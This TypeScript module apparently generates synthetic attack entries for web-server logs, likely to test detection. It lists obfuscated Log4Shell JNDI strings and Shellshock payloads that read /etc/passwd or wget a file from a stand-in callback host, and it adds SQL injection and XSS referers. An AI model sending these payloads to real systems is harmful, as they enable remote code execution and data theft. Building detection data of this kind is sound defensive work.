// Attacks carried in a request header (User-Agent or Referer) rather than the request line.
// Log4Shell and Shellshock strings follow their public syntax (CVE-2021-44228, CVE-2014-6271) with
// the obfuscations seen in the wild; callbacks point at documentation addresses (RFC 5737/2606).
// SQLi and XSS referers reuse held-out payloads (modsec-learn SQLi, honeynet Nikto XSS probes).

import { modsecSqliQueries, honeynetSession, HONEYNET_NIKTO_IP } from './held-out-sources.js';
import type { SeededRandom } from './seeded-random.js';

export type HeaderAttack = 'ua-log4shell' | 'ua-shellshock' | 'referer-log4shell' | 'referer-sqli' | 'referer-xss';

const LOG4SHELL_TEMPLATES: readonly string[] = [
  '${jndi:ldap://HOST/a}',
  '${jndi:rmi://HOST/o}',
  '${jndi:dns://HOST/d}',
  '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://HOST/x}',
  '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://HOST/p}',
  '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//HOST/e}',
  '${${upper:j}ndi:ldap://HOST/${env:USER}}',
  '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://HOST/k}',
  '${${date:\'j\'}${date:\'n\'}${date:\'d\'}${date:\'i\'}:ldap://HOST/t}',
];

// No double quote in any of them: Apache would escape it, and the mix keeps one quoting style.
const SHELLSHOCK_TEMPLATES: readonly string[] = [
  '() { :; }; echo; /bin/cat /etc/passwd',
  '() { :;}; /bin/bash -c \'wget http://HOST/s -O /tmp/s\'',
  '() { ignored;}; /usr/bin/id',
  '() { :; }; /bin/ping -c 1 HOST',
  '() { _; } >_[$($())] { echo; /usr/bin/uname -a; }',
];

// Outside the attacker IP pool (203.0.113.1-254, 192.0.2.1-200).
const CALLBACK_HOSTS = ['192.0.2.250:1389', '192.0.2.251', 'cb.example.invalid', 'ldap.example.net:1099'];

/** The header value for one attack line; `origin` is the site's own scheme and host for referers. */
export function headerAttackValue(attack: HeaderAttack, random: SeededRandom, origin: string): string {
  const host = () => random.pick(CALLBACK_HOSTS);
  switch (attack) {
    case 'ua-log4shell':
    case 'referer-log4shell':
      return random.pick(LOG4SHELL_TEMPLATES).replace('HOST', host());
    case 'ua-shellshock':
      return random.pick(SHELLSHOCK_TEMPLATES).replace('HOST', host());
    case 'referer-sqli':
      return `${origin}/?${random.pick(modsecSqliQueries())}`;
    case 'referer-xss':
      return `${origin}${random.pick(niktoXssTargets())}`;
  }
}

let xssCache: string[] | undefined;
/** Request targets of the honeynet Nikto session that carry a script tag (plain or %-encoded). */
function niktoXssTargets(): string[] {
  xssCache ??= [
    ...new Set(
      honeynetSession(HONEYNET_NIKTO_IP, /Nikto/)
        .requests.map((r) => r.request.split(' ')[1] ?? '')
        .filter((target) => /<script|%3cscript/i.test(target) && target.startsWith('/')),
    ),
  ];
  return xssCache;
}
